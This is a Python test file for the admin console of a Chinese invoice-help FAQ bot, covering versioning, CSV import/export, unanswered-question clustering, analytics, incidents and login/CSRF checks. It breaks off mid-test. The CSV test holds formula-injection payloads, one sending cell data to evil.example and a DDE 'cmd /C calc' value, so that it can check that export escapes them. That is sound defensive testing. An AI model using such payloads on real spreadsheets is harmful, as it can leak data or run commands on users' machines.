"""Admin console on each database: FAQ versions, diff and rollback, CSV import/export, unanswered questions and their
clusters, guide validation, analytics, incident detection and notices, and the admin pages behind the login."""

import csv
import html
import io
import re
import textwrap
import time
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from alembic.autogenerate import compare_metadata
from alembic.runtime.migration import MigrationContext
from argon2 import PasswordHasher
from fastapi.testclient import TestClient
from sqlalchemy import select

from bot.bootstrap import prepare_database
from bot.models import metadata
from core.clock import utc
from core.conversation.models import ConversationTurn
from core.database import get_engine, session_scope
from core.messages import IncomingMessage
from core.outbox.models import OutboxMessage
from core.settings import get_settings
from core.store import MemoryStore
from handlers.router import make_router
from knowledge import service, unanswered, versions
from knowledge.live import get_live_knowledge
from knowledge.matcher import MatcherConfig
from knowledge.models import FaqEntry, FaqVersion
from knowledge.schemas import FaqIn
from tests.conftest import clear_process_caches
from ticketing import analytics, incidents, staff
from ticketing import handoff as ticket_handoff
from ticketing.incident_models import Incident
from ticketing.models import Ticket, TicketEvent

SH = ZoneInfo("Asia/Shanghai")
NOW = datetime(2026, 12, 2, 12, 0, tzinfo=SH)
MY_TABLES = ("faq_version", "unanswered_resolution", "incident")
ODD_QUESTION = "税务数字账户里的发票怎么批量导出成表格"
QUESTION = "开票时购买方名称写错了怎么办"  # a plain FAQ answer (no guide)


@pytest.fixture
def adb(app_env, monkeypatch):
    """A fresh, migrated database of each kind with the shipped FAQ; lexical matching; cheap password hashes."""
    monkeypatch.setenv("MATCHER_EMBEDDINGS", "false")
    monkeypatch.setattr(staff, "_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
    clear_process_caches()
    prepare_database()
    yield app_env
    get_engine().dispose()


def faq(faq_id: str = "test_entry", **changes) -> FaqIn:
    values = {
        "id": faq_id,
        "category": "测试",
        "question": "发票开错了怎么办？",
        "alternates": ["开错票了咋办", "发票写错了"],
        "keywords": ["开错"],
        "answer": "当月可作废，跨月请开红字发票。",
    }
    values.update(changes)
    return FaqIn(**values)


def do(action, **kwargs):
    """Run one service call in its own transaction."""
    with session_scope() as db_session:
        return action(db_session=db_session, **kwargs)


def turn(user: str, text: str, intent: str, when: datetime, *, topic: str | None = None, channel: str = "api"):
    """Record a conversation turn stamped `when`."""
    with session_scope() as db_session:
        db_session.add(
            ConversationTurn(
                channel=channel,
                user_id=user,
                text=text,
                intent=intent,
                topic=topic,
                reply="…",
                created_at=utc(when),
            )
        )


def say(router, text: str, user: str = "m1"):
    with session_scope() as db_session:
        return router.handle(IncomingMessage(channel="api", user_id=user, text=text), db_session=db_session)


def match(text: str):
    with session_scope() as db_session:
        return get_live_knowledge().current(db_session=db_session).matcher.match(text)


# --- schema --------------------------------------------------------------------------------------------------


def test_migration_creates_the_tables_the_models_describe(adb):
    with get_engine().connect() as connection:
        differences = compare_metadata(MigrationContext.configure(connection), metadata)
    assert [d for d in differences if any(table in repr(d) for table in MY_TABLES)] == []


def test_seeded_entries_have_a_first_version(adb):
    with session_scope() as db_session:
        rows = db_session.scalars(select(FaqVersion).where(FaqVersion.faq_id == "busy_server")).all()
        assert [(r.version, r.action, r.author) for r in rows] == [(1, "created", "seed")]
        assert rows[0].snapshot["question"] == service.get(db_session=db_session, faq_id="busy_server").question


# --- versions, diff, rollback ----------------------------------------------------------------------------------


def test_every_save_is_a_version_and_the_diff_names_the_changed_fields(adb):
    do(service.upsert, faq_in=faq(), author="staff:1")
    do(service.upsert, faq_in=faq(), author="staff:1")  # unchanged: no new version
    do(service.upsert, faq_in=faq(answer="当月作废；跨月开红字发票。", alternates=["开错票了咋办", "票开错了"]))
    with session_scope() as db_session:
        history = versions.get_versions(db_session=db_session, faq_id="test_entry")
        assert [(v.version, v.action, v.author) for v in history] == [(2, "updated", "api"), (1, "created", "staff:1")]
        changes = versions.diff(history[1].snapshot, history[0].snapshot)
    assert [c.field for c in changes] == ["alternates", "answer"]
    alternates, answer = changes
    assert alternates.html == "开错票了咋办\n<del>发票写错了</del>\n<ins>票开错了</ins>"
    assert "<del>可</del>" in answer.html and "<ins>；</ins>" in answer.html
    assert versions.diff({"question": "<b>"}, {"question": "<i>"})[0].html == "&lt;<del>b</del><ins>i</ins>&gt;"


def test_rollback_restores_the_old_content_as_a_new_version(adb):
    do(service.upsert, faq_in=faq())
    do(service.upsert, faq_in=faq(answer="改过的答案。", enabled=False))
    entry, changed = do(service.rollback, faq_id="test_entry", version=1, author="staff:7")
    assert changed and entry.version == 3
    with session_scope() as db_session:
        stored = service.get(db_session=db_session, faq_id="test_entry")
        assert (stored.answer, stored.enabled, stored.version) == (faq().answer, True, 3)
        latest = versions.get_versions(db_session=db_session, faq_id="test_entry")[0]
        assert (latest.version, latest.action, latest.author, latest.note) == (3, "rollback", "staff:7", "回滚到 v1")
        assert (
            versions.diff(
                versions.get_version(db_session=db_session, faq_id="test_entry", version=1).snapshot, latest.snapshot
            )
            == []
        )
    with pytest.raises(LookupError):
        do(service.rollback, faq_id="test_entry", version=9)


def test_a_deleted_entry_keeps_its_history_and_comes_back_by_rollback(adb):
    do(service.upsert, faq_in=faq())
    assert do(service.delete, faq_id="test_entry", author="staff:2")
    with session_scope() as db_session:
        assert [(v.version, v.action) for v in versions.get_versions(db_session=db_session, faq_id="test_entry")] == [
            (2, "deleted"),
            (1, "created"),
        ]
    entry, _ = do(service.rollback, faq_id="test_entry", version=2)
    assert entry.version == 3 and entry.answer == faq().answer


def test_the_json_admin_api_records_versions(adb):
    from bot.app import create_app

    client = TestClient(create_app())
    headers = {"Authorization": "Bearer test-admin-token"}
    body = faq("api_entry").model_dump()
    assert client.put("/api/admin/faq/api_entry", json=body, headers=headers).status_code == 200
    body["answer"] = "通过接口修改的答案。"
    assert client.put("/api/admin/faq/api_entry", json=body, headers=headers).json()["version"] == 2
    with session_scope() as db_session:
        history = versions.get_versions(db_session=db_session, faq_id="api_entry")
        assert [(v.version, v.author) for v in history] == [(2, "api"), (1, "api")]


# --- CSV -------------------------------------------------------------------------------------------------------


def test_csv_round_trip_preserves_every_entry(adb):
    with session_scope() as db_session:
        entries = service.get_all(db_session=db_session)
        text = service.to_csv(entries)
        expected = [FaqIn.model_validate({"id": e.id, **versions.snapshot(e)}).model_dump() for e in entries]
    assert text.splitlines()[0] == "id,category,question,alternates,keywords,answer,source,enabled"
    parsed = service.parse_csv("\ufeff" + text)  # as saved by a spreadsheet
    assert [p.model_dump() for p in parsed] == expected
    assert do(service.import_entries, entries=parsed) == {"created": 0, "updated": 0, "unchanged": len(entries)}


def test_csv_export_escapes_formulas_from_merchant_text_and_import_undoes_it(adb):
    """Merchant text reaches the FAQ through the unanswered list; in the export no cell starts a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    entry = FaqIn(
        id="formula_entry",
        category="@分类",
        question="-开票失败怎么办？",
        alternates=[formula, "+1+cmd /C calc!A0"],
        keywords=["\t=1+1"],
        answer="=1+1 先检查网络。",
    )
    do(service.import_entries, entries=[entry])
    with session_scope() as db_session:
        text = service.to_csv(service.get_all(db_session=db_session))
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "formula_entry")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert row[1:4] == ["'@分类", "'-开票失败怎么办？", f"'{formula}|+1+cmd /C calc!A0"]
    assert row[5] == "'=1+1 先检查网络。"
    parsed = next(p for p in service.parse_csv("\ufeff" + text) if p.id == "formula_entry")
    assert parsed.model_dump() == FaqIn.model_validate(entry.model_dump()).model_dump()
    assert do(service.import_entries, entries=service.parse_csv(text)) == {
        "created": 0,
        "updated": 0,
        "unchanged": len(service.default_entries()) + 1,
    }


def test_csv_import_reads_lists_and_flags_and_reports_bad_rows(adb):
    text = (
        "id,category,question,alternates,keywords,answer,enabled\n"
        'csv_one,测试,发票怎么打印？,"打印发票|发票, 打印",打印,"第一行\n第二行",否\n'
        "csv_two,测试,发票丢了怎么办？,,,联系开票方重新交付。,\n"
    )
    one, two = service.parse_csv(text)
    assert one.alternates == ["打印发票", "发票, 打印"] and one.keywords == ["打印"]
    assert one.answer == "第一行\n第二行" and one.enabled is False
    assert two.alternates == [] and two.enabled is True
    counts = do(service.import_entries, entries=[one, two], author="staff:1")
    assert counts == {"created": 2, "updated": 0, "unchanged": 0}
    with pytest.raises(ValueError, match="row 2"):
        service.parse_csv("id,category,question,answer,enabled\nBad Id,测试,问题？,答案。,true\n")
    with pytest.raises(ValueError, match="enabled"):
        service.parse_csv("id,category,question,answer,enabled\nok_id,测试,问题？,答案。,maybe\n")
    with pytest.raises(ValueError, match="lacks: answer"):
        service.parse_csv("id,category,question\nok_id,测试,问题？\n")
    with pytest.raises(ValueError, match="duplicate ids: dup"):
        service.parse_csv("id,category,question,answer\ndup,测试,问题？,答案。\ndup,测试,问题？,答案。\n")


# --- unanswered questions --------------------------------------------------------------------------------------


def test_unanswered_are_fallbacks_and_clarifies_that_went_nowhere(adb):
    t0 = NOW - timedelta(hours=2)
    turn("u1", "金税盘开不了机咋整", "fallback", t0)  # the bot could not help
    turn("u2", "发票开错了", "clarify", t0)
    turn("u2", "1", "answer", t0 + timedelta(minutes=1), topic="void_e_invoice")  # picked a choice: answered
    turn("u3", "登录不上怎么弄", "clarify", t0)
    turn("u3", "都不是，转人工客服", "handoff", t0 + timedelta(minutes=1))  # none of the choices
    turn("u4", "额度不够用", "clarify", t0)
    turn("u4", "2", "answer", t0 + timedelta(minutes=30), topic="quota_insufficient")  # too late to count
    turn("u5", "清卡失败", "clarify", t0)  # left without choosing
    turn("u6", "红冲怎么弄", "clarify", NOW - timedelta(minutes=2))  # still undecided
    turn("u7", "😀😀", "fallback", t0)  # nothing readable
    turn("u8", "很久以前的问题", "fallback", NOW - timedelta(days=40))  # before the period
    turn("u9", "发票怎么开", "answer", t0, topic="issue_failed_generic")
    with session_scope() as db_session:
        found = unanswered.find_turns(db_session=db_session, since=NOW - timedelta(days=30), now=NOW)
    assert sorted((t.user_id, t.intent) for t in found) == [
        ("u1", "fallback"),
        ("u3", "clarify"),
        ("u4", "clarify"),
        ("u5", "clarify"),
    ]


def test_dismissed_questions_leave_the_list_until_asked_again(adb):
    turn("u1", "你们几点下班", "fallback", NOW - timedelta(hours=3))
    turn("u2", "你们几点下班啊？", "fallback", NOW - timedelta(hours=2))
    with session_scope() as db_session:
        [found] = unanswered.clusters(db_session=db_session, now=NOW)
        assert found.count == 2 and found.identities == 2
        unanswered.dismiss(db_session=db_session, keys=found.keys, author="staff:1", now=NOW - timedelta(hours=1))
    with session_scope() as db_session:
        assert unanswered.clusters(db_session=db_session, now=NOW) == []
    turn("u3", "你们几点下班", "fallback", NOW - timedelta(minutes=5))
    with session_scope() as db_session:
        assert [c.count for c in unanswered.clusters(db_session=db_session, now=NOW)] == [1]


def test_similar_questions_cluster_together_and_different_ones_do_not():
    texts = {
        "login": ["电子税务局登录不上", "电子税务局登不上去", "电子税局登陆不上怎么办", "税务局网站登录不上"],
        "busy": ["开票时提示服务器繁忙", "开票提示服务器繁忙怎么办", "一直提示服务器繁忙"],
        "hours": ["你们几点下班", "你们几点下班啊"],
        "title": ["发票抬头写错了"],
        "weather": ["今天天气怎么样"],
    }
    moment = utc(NOW)
    turns = [
        unanswered.UnansweredTurn(n, "api", f"u{n}", text, "fallback", moment, unanswered.text_key(text))
        for n, text in enumerate(t for group in texts.values() for t in group)
    ]
    clusters = unanswered.cluster(turns, threshold=60)
    keys = [sorted({unanswered.text_key(t) for t in group}) for group in texts.values()]
    assert sorted(sorted(c.keys) for c in clusters) == sorted(keys)
    assert clusters[0].count == 4 and clusters[0].label == "电子税务局登录不上"


def test_clustering_ten_thousand_turns_is_fast():
    subjects = ["发票", "电子税务局", "税控盘", "红字发票", "数电票", "验证码", "额度", "抬头", "邮箱", "证书"]
    problems = ["打不开", "登录不上", "显示异常", "报错了", "没反应", "找不到", "收不到", "一直转圈", "过期了"]
    tails = ["", "怎么办", "咋整", "啊", "是什么原因", "急"]
    moment = utc(NOW)
    turns = []
    for n in range(10_000):
        text = subjects[n % 10] + problems[(n // 10) % 9] + tails[(n // 90) % 6] + str(n % 7 or "")
        turns.append(unanswered.UnansweredTurn(n, "api", f"u{n % 500}", text, "fallback", moment, text))
    started = time.perf_counter()
    clusters = unanswered.cluster(turns)
    assert time.perf_counter() - started < 5.0
    assert sum(c.count for c in clusters) == 10_000 and len(clusters) < 1000


def test_adding_an_unanswered_question_as_an_alternate_makes_the_bot_answer_it(adb):
    assert match(ODD_QUESTION).outcome != "answer"
    turn("u1", ODD_QUESTION, "clarify", NOW - timedelta(hours=1))
    with session_scope() as db_session:
        [found] = unanswered.clusters(db_session=db_session, now=NOW, matcher=None)
        entry, changed = unanswered.add_as_alternate(
            db_session=db_session,
            topic="missing_buyer_cannot_see",
            texts=[found.label],
            keys=found.keys,
            author="staff:1",
            now=NOW,
        )
    assert changed and ODD_QUESTION in entry.alternates
    get_live_knowledge().refresh()
    result = match(ODD_QUESTION)
    assert (result.outcome, result.topic) == ("answer", "missing_buyer_cannot_see")
    with session_scope() as db_session:
        assert unanswered.clusters(db_session=db_session, now=NOW) == []
        assert versions.get_versions(db_session=db_session, faq_id="missing_buyer_cannot_see")[0].author == "staff:1"
    with pytest.raises(LookupError), session_scope() as db_session:
        unanswered.add_as_alternate(db_session=db_session, topic="no_such_topic", texts=["x"], author="staff:1")


# --- analytics -------------------------------------------------------------------------------------------------


def sh(day: int, hour: int, minute: int = 0) -> datetime:
    month = 11 if day > 2 else 12
    return datetime(2026, month, day, hour, minute, tzinfo=SH)


def test_analytics_per_day_on_a_seeded_dataset(adb):
    # 30 Nov: a and d answered by the bot, b missed then handed off (a ticket opened), c left a guide at its first
    # question, d late at night.
    turn("a", "服务器繁忙", "answer", sh(30, 9), topic="busy_server")
    turn("b", "今天中午吃什么", "fallback", sh(30, 9, 5))
    turn("b", "人工", "handoff", sh(30, 9, 6))
    turn("c", "服务器繁忙怎么办", "answer", sh(30, 10), topic="busy_server")
    turn("c", "登录失败", "guide", sh(30, 10, 1), topic="login_network_fail")
    turn("d", "开票失败", "answer", sh(30, 23, 30), topic="issue_failed_generic")
    # 1 Dec (local): d again just after midnight, e answered but a ticket was opened for it, f with an agent.
    turn("d", "还是失败", "answer", sh(1, 0, 30), topic="issue_failed_generic")
    turn("e", "额度不够", "answer", sh(1, 9), topic="quota_insufficient")
    turn("f", "在吗", "human", sh(1, 10))
    turn("g", "很早以前", "answer", sh(20, 10), topic="busy_server")  # before the period
    with session_scope() as db_session:
        first = ticket_handoff.create(db_session=db_session, channel="api", user_id="b", now=sh(30, 9, 6))
        first.first_response_at = utc(sh(30, 9, 36))  # 30 min
        first.resolved_at = utc(sh(1, 9, 6))  # 24 h
        first.csat_score, first.csat_at = 5, utc(sh(1, 11))
        second = ticket_handoff.create(db_session=db_session, channel="api", user_id="e", now=sh(1, 9))
        second.first_response_at = utc(sh(1, 9, 10))  # 10 min
        second.sla_first_response_breached_at = utc(sh(1, 9, 5))
        second.csat_score, second.csat_at = 2, utc(sh(1, 12))
    with session_scope() as db_session:
        result = analytics.report(db_session=db_session, days=3, now=NOW)
    assert (result.start.isoformat(), result.end.isoformat()) == ("2026-11-30", "2026-12-02")
    nov30, dec1, dec2 = result.days
    assert (nov30.conversations, nov30.handed_off, nov30.bot_resolved, nov30.with_fallback) == (4, 1, 2, 1)
    assert nov30.bot_resolved_rate == pytest.approx(0.5) and nov30.handoff_rate == pytest.approx(0.25)
    assert nov30.fallback_rate == pytest.approx(0.25) and nov30.out_of_scope_rate == 0
    assert nov30.median_first_response_seconds == 1800 and nov30.resolutions == 0
    assert (dec1.conversations, dec1.handed_off, dec1.bot_resolved) == (3, 2, 1)
    assert dec1.first_response_seconds == [600] and dec1.median_resolution_seconds == 24 * 3600
    assert dec1.sla_breaches == 1 and dec1.csat_count == 2 and dec1.csat_average == pytest.approx(3.5)
    assert (dec2.conversations, dec2.bot_resolved_rate, dec2.median_first_response_seconds) == (0, None, None)
    assert (result.total.conversations, result.total.handed_off, result.total.csat_average) == (7, 3, 3.5)
    assert (result.total.bot_resolved, result.total.with_fallback) == (3, 1)
    assert result.total.median_first_response_seconds == 1200
    assert result.top_topics[:2] == [("busy_server", 2), ("issue_failed_generic", 2)]
    assert [c.label for c in result.top_unanswered] == ["今天中午吃什么"]


def conversations_today(walks: dict[str, list[str]]) -> analytics.DayStats:
    """Today's analytics after each user's messages went through the router, in turn."""
    router = make_router(store=MemoryStore())
    for user, messages in walks.items():
        for text in messages:
            say(router, text, user=user)
    with session_scope() as db_session:
        return analytics.report(db_session=db_session, days=1).days[-1]


def test_only_conversations_that_ended_on_an_answer_or_a_finished_guide_count_as_resolved_by_the_bot(adb):
    busy = "提示服务器繁忙，请稍后再试怎么办"
    walks = {
        "answered": [QUESTION, "谢谢"],  # small talk after the answer does not change how it ended
        "fallback": ["今天中午吃什么好呢"],
        "not_helped": [QUESTION, "没解决"],
        "guide_done": [busy, "点了提交开票之后", "显示开票成功了", "解决了"],
        "guide_left": [busy],  # left at the guide's first question
        "outside": ["个人所得税年度汇算怎么办理"],
        "handoff": [QUESTION, "转人工"],
    }
    day = conversations_today(walks)
    with session_scope() as db_session:
        recorded = db_session.scalars(select(ConversationTurn).order_by(ConversationTurn.id)).all()
        intents = {user: [t.intent for t in recorded if t.user_id == user] for user in walks}
    assert intents["not_helped"] == ["answer", "fallback", "answer"]  # 没解决 is recorded as a fallback turn
    assert intents["guide_done"] == ["guide"] * 4 and intents["outside"] == ["out_of_scope"]
    assert (day.conversations, day.bot_resolved, day.handed_off) == (7, 2, 1)  # "answered" and "guide_done"
    assert (day.with_fallback, day.out_of_scope, day.not_helped) == (1, 1, 1)
    assert day.bot_resolved_rate == pytest.approx(2 / 7) and day.fallback_rate == pytest.approx(1 / 7)
    assert day.out_of_scope_rate == pytest.approx(1 / 7) and day.not_helped_rate == pytest.approx(1 / 7)


def test_a_conversation_with_only_a_fallback_or_an_out_of_scope_turn_is_not_resolved(adb):
    walks = {"lost": ["今天中午吃什么好呢"], "asked": [QUESTION], "outside": ["个人所得税年度汇算怎么办理", QUESTION]}
    day = conversations_today(walks)  # "outside" ended on an answer, after a question the bot does not cover
    assert (day.conversations, day.bot_resolved, day.with_fallback, day.out_of_scope) == (3, 1, 1, 1)


# --- incidents -------------------------------------------------------------------------------------------------


def hit(topic: str, users, when: datetime, *, channel: str = "wechat") -> None:
    for user in users:
        turn(user, "提示服务器繁忙", "answer", when, topic=topic, channel=channel)


def detect(now: datetime) -> list[int]:
    with session_scope() as db_session:
        return [i.id for i in incidents.detect(db_session=db_session, now=now)]


def notice(topic: str) -> str | None:
    with session_scope() as db_session:
        return incidents.notice_for(db_session=db_session, topic=topic)


def test_an_incident_opens_once_when_enough_merchants_hit_a_watched_topic_within_the_window(adb):
    t0 = NOW - timedelta(minutes=30)
    hit("busy_server", ["m1", "m2", "m3", "m4"], t0)
    hit("busy_server", ["m1"], t0 + timedelta(minutes=1))  # the same merchant twice counts once
    hit("busy_server", ["m5"], t0 - timedelta(minutes=11))  # outside the 10-minute window
    hit("verify_not_found", [f"v{n}" for n in range(8)], t0)  # not a watched topic
    assert detect(t0 + timedelta(minutes=2)) == []
    hit("busy_server", ["m6"], t0 + timedelta(minutes=3))
    [opened] = detect(t0 + timedelta(minutes=4))
    assert detect(t0 + timedelta(minutes=5)) == []  # never a second one while it is open
    hit("busy_server", ["m7"], t0 + timedelta(minutes=6))
    detect(t0 + timedelta(minutes=7))
    with session_scope() as db_session:
        incident = incidents.get(db_session=db_session, incident_id=opened)
        assert (incident.topic, incident.status, incident.affected_count) == ("busy_server", "open", 6)
        assert utc(incident.window_started_at) == utc(t0)
        events = db_session.scalars(select(TicketEvent).where(TicketEvent.action == "incident_opened")).all()
        assert [e.after["incident_id"] for e in events] == [opened] and events[0].after["affected"] == 5
        assert [i.id for i in incidents.open_incidents(db_session=db_session)] == [opened]


def test_an_incident_alerts_the_webhook_when_configured(adb, monkeypatch):
    monkeypatch.setenv("SLA_ALERT_WEBHOOK_URL", "https://alerts.example/hook")
    get_settings.cache_clear()
    hit("login_network_fail", [f"m{n}" for n in range(5)], NOW - timedelta(minutes=1))
    [opened] = detect(NOW)
    with session_scope() as db_session:
        [alert] = db_session.scalars(select(OutboxMessage).where(OutboxMessage.channel == "webhook")).all()
    assert alert.dedupe_key == f"incident:{opened}:opened" and "login_network_fail" in alert.payload["text"]


def test_an_incident_links_the_related_tickets(adb):
    t0 = NOW - timedelta(minutes=5)
    with session_scope() as db_session:
        about = ticket_handoff.create(
            db_session=db_session, channel="api", user_id="x1", now=t0, context={"topic": "busy_server"}
        ).id
        affected = ticket_handoff.create(db_session=db_session, channel="wechat", user_id="m2", now=t0).id
        unrelated = ticket_handoff.create(db_session=db_session, channel="api", user_id="x2", now=t0).id
        older = ticket_handoff.create(
            db_session=db_session,
            channel="api",
            user_id="x3",
            now=t0 - timedelta(hours=2),
            context={"topic": "busy_server"},
        ).id
    hit("busy_server", [f"m{n}" for n in range(5)], t0)
    [opened] = detect(NOW)
    with session_scope() as db_session:
        linked = {t.id for t in incidents.linked_tickets(db_session=db_session, incident_id=opened)}
        assert linked == {about, affected} and unrelated not in linked and older not in linked
        later = ticket_handoff.create(
            db_session=db_session, channel="api", user_id="x4", now=NOW, context={"topic": "busy_server"}
        ).id
    detect(NOW + timedelta(minutes=1))
    with session_scope() as db_session:
        assert {t.id for t in incidents.linked_tickets(db_session=db_session, incident_id=opened)} == {
            about,
            affected,
            later,
        }


def test_the_notice_is_given_while_the_incident_is_open_and_pushed_once_to_each_merchant(adb):
    t0 = NOW - timedelta(minutes=5)
    hit("busy_server", [f"m{n}" for n in range(5)], t0)
    [opened] = detect(NOW)
    assert notice("busy_server") is None  # nothing published yet
    with session_scope() as db_session:
        assert incidents.push_notice(db_session=db_session, incident_id=opened, now=NOW) == 0
        incidents.publish_notice(
            db_session=db_session, incident_id=opened, text="已知晓，正在处理", actor_id=None, now=NOW
        )
    assert notice("busy_server") == "已知晓，正在处理" and notice("login_network_fail") is None
    hit("busy_server", ["late"], NOW + timedelta(minutes=1))  # answered with the notice already
    detect(NOW + timedelta(minutes=2))
    with session_scope() as db_session:
        assert incidents.push_notice(db_session=db_session, incident_id=opened, now=NOW) == 5
    with session_scope() as db_session:
        assert incidents.push_notice(db_session=db_session, incident_id=opened, now=NOW) == 0  # deduped
        rows = db_session.scalars(select(OutboxMessage).order_by(OutboxMessage.id)).all()
        assert sorted(r.recipient for r in rows) == [f"m{n}" for n in range(5)]
        assert {(r.channel, r.payload["text"]) for r in rows} == {("wechat", "已知晓，正在处理")}
    with session_scope() as db_session:
        incidents.close(db_session=db_session, incident_id=opened, now=NOW + timedelta(minutes=3))
    assert notice("busy_server") is None
    with pytest.raises(incidents.IncidentError), session_scope() as db_session:
        incidents.publish_notice(db_session=db_session, incident_id=opened, text="再发一次")
    assert detect(NOW + timedelta(minutes=4)) == []  # the burst before closing does not reopen it
    hit("busy_server", [f"n{n}" for n in range(5)], NOW + timedelta(minutes=5))
    assert len(detect(NOW + timedelta(minutes=6))) == 1  # a new burst after closing does
    with session_scope() as db_session:
        assert len(db_session.scalars(select(Incident)).all()) == 2


def test_the_router_can_prepend_the_notice(adb):
    """The hook the router uses: the notice for the topic of the bot's answer."""
    hit("busy_server", [f"m{n}" for n in range(5)], NOW - timedelta(minutes=1))
    [opened] = detect(NOW)
    with session_scope() as db_session:
        incidents.publish_notice(db_session=db_session, incident_id=opened, text="已知晓，正在处理")
    reply = say(make_router(store=MemoryStore()), "提示服务器繁忙，请稍后再试怎么办", user="r1")
    assert reply.topic == "busy_server"
    assert notice(reply.topic) == "已知晓，正在处理"


# --- guides ----------------------------------------------------------------------------------------------------

BROKEN_GUIDE = textwrap.dedent(
    """
    id: broken_guide
    title: 坏掉的排查
    intro: 测试。
    start: one
    steps:
      one:
        text: 第一个问题？
        options:
          - {label: 下一步, next: nowhere}
    """
)


def test_guide_statuses_report_each_broken_guides_problems(adb, tmp_path):
    from console.unanswered import guide_statuses
    from knowledge.guides import GUIDE_DIR

    (tmp_path / "busy_server.yaml").write_text((GUIDE_DIR / "busy_server.yaml").read_text(encoding="utf-8"), "utf-8")
    (tmp_path / "broken_guide.yaml").write_text(BROKEN_GUIDE, encoding="utf-8")
    (tmp_path / "not_yaml.yaml").write_text("id: [unclosed", encoding="utf-8")
    with session_scope() as db_session:
        entries = {e.id: e for e in service.get_all(db_session=db_session)}
    statuses = {s.id: s for s in guide_statuses(tmp_path, entries)}
    assert statuses["busy_server"].valid and statuses["busy_server"].topic == "ok" and statuses["busy_server"].steps
    broken = statuses["broken_guide"]
    assert not broken.valid and broken.title == "坏掉的排查" and broken.topic == "missing"
    assert [(p.step, p.message) for p in broken.problems] == [
        ("one", "option 1 (下一步): next 'nowhere' is not a step (dangling)")
    ]
    assert "not valid YAML" in statuses["not_yaml"].problems[0].message


# --- the console pages -----------------------------------------------------------------------------------------

PASSWORD = "correct horse"
PAGES = [
    "faq",
    "faq/new",
    "faq/try",
    "faq/import",
    "faq/busy_server",
    "faq/busy_server/versions",
    "unanswered",
    "guides",
    "analytics",
    "incidents",
]


@pytest.fixture
def console(adb):
    """A client of an app with the console login and these pages."""
    pytest.importorskip("console.auth")
    from fastapi import FastAPI

    from console import routes

    app = FastAPI()
    routes.install(app)
    return TestClient(app)


def login(client: TestClient, username: str, role: str = "admin") -> tuple[int, str]:
    """Create an account, log in; return its id and the session's CSRF token."""
    with session_scope() as db_session:
        user_id = staff.create(db_session=db_session, username=username, password=PASSWORD, role=role).id
    client.get("/console/login")
    form = {"username": username, "password": PASSWORD, "csrf_token": client.cookies.get("ma_login_csrf") or ""}
    assert client.post("/console/login", data=form, follow_redirects=False).status_code == 303
    return user_id, csrf_of(client.get("/console/admin/faq" if role == "admin" else "/console/login"))


def csrf_of(response) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', response.text)
    return found.group(1) if found else ""


def post(client: TestClient, path: str, csrf: str, data: dict | None = None, **kwargs):
    return client.post(
        f"/console/admin/{path}", data={"csrf_token": csrf, **(data or {})}, follow_redirects=False, **kwargs
    )


def test_admin_pages_need_an_admin(console):
    for path in PAGES:
        response = console.get(f"/console/admin/{path}", follow_redirects=False)
        assert response.status_code == 303 and response.headers["location"].startswith("/console/login?next=")
    assert console.post("/console/admin/faq/new", data={}, follow_redirects=False).status_code == 401
    login(console, "agent1", role="agent")
    for path in PAGES:
        assert console.get(f"/console/admin/{path}", follow_redirects=False).status_code == 403
    assert console.get("/console/admin/faq/try.json?q=发票").status_code == 403


def test_every_admin_page_renders(console):
    login(console, "admin1")
    for path in PAGES:
        response = console.get(f"/console/admin/{path}")
        assert response.status_code == 200, path
        assert "<html" in response.text and "发票助手" in response.text
    assert console.get("/console/admin/faq/no_such_entry").status_code == 404


def test_posts_need_the_csrf_token(console):
    login(console, "admin1")
    response = post(console, "faq/busy_server/disable", "wrong-token")
    assert response.status_code == 403
    with session_scope() as db_session:
        assert service.get(db_session=db_session, faq_id="busy_server").enabled


def editor_form(entry: FaqEntry, **changes) -> dict:
    values = {
        "category": entry.category,
        "question": entry.question,
        "alternates": "\n".join(entry.alternates),
        "keywords": "\n".join(entry.keywords),
        "answer": entry.answer,
        "source": entry.source,
        "enabled": "on",
        "version": str(entry.version),
    }
    values.update(changes)
    return values


def test_an_edit_in_the_console_changes_the_bots_answer_at_once_and_a_rollback_undoes_it(console):
    admin_id, csrf = login(console, "admin1")
    router = make_router(store=MemoryStore())
    assert say(router, ODD_QUESTION, user="m1").intent != "answer"
    with session_scope() as db_session:
        entry = service.get(db_session=db_session, faq_id="missing_buyer_cannot_see")
        form = editor_form(entry, alternates="\n".join([*entry.alternates, ODD_QUESTION]))
        old_version = entry.version
    response = post(console, "faq/missing_buyer_cannot_see", csrf, form)
    assert response.status_code == 303 and response.headers["location"] == "/console/admin/faq/missing_buyer_cannot_see"
    reply = say(router, ODD_QUESTION, user="m2")
    assert (reply.intent, reply.topic) == ("answer", "missing_buyer_cannot_see")
    new_version = old_version + 1
    page = console.get(f"/console/admin/faq/missing_buyer_cannot_see/versions/{new_version}")
    assert f"<ins>{ODD_QUESTION}</ins>" in page.text and "admin1" in page.text
    with session_scope() as db_session:
        [event] = db_session.scalars(select(TicketEvent).where(TicketEvent.action == "faq_updated")).all()
        assert event.actor_id == admin_id and ODD_QUESTION in event.after["alternates"]
        assert ODD_QUESTION not in event.before["alternates"]
    # An editor opened before that save is refused rather than overwriting it.
    stale = post(console, "faq/missing_buyer_cannot_see", csrf, {**form, "answer": "旧页面的答案。"})
    assert stale.status_code == 409 and "已被他人修改" in stale.text
    response = post(console, f"faq/missing_buyer_cannot_see/versions/{old_version}/rollback", csrf)
    assert response.status_code == 303
    assert say(router, ODD_QUESTION, user="m3").intent != "answer"
    with session_scope() as db_session:
        entry = service.get(db_session=db_session, faq_id="missing_buyer_cannot_see")
        assert entry.version == new_version + 1 and ODD_QUESTION not in entry.alternates
    history = console.get("/console/admin/faq/missing_buyer_cannot_see/versions").text
    assert "回滚到 v" in history and "回滚到此版本" in history


def test_an_answer_edited_in_the_browser_is_stored_with_plain_line_breaks(console):
    _, csrf = login(console, "admin1")
    with session_scope() as db_session:
        form = editor_form(
            service.get(db_session=db_session, faq_id="busy_server"), answer="第一步：刷新。\r\n第二步：重试。\r第三步"
        )
    assert post(console, "faq/busy_server", csrf, form).status_code == 303
    with session_scope() as db_session:
        assert (
            service.get(db_session=db_session, faq_id="busy_server").answer == "第一步：刷新。\n第二步：重试。\n第三步"
        )


def test_admins_see_and_edit_the_rule_an_answer_rests_on(console):
    _, csrf = login(console, "admin1")
    with session_scope() as db_session:
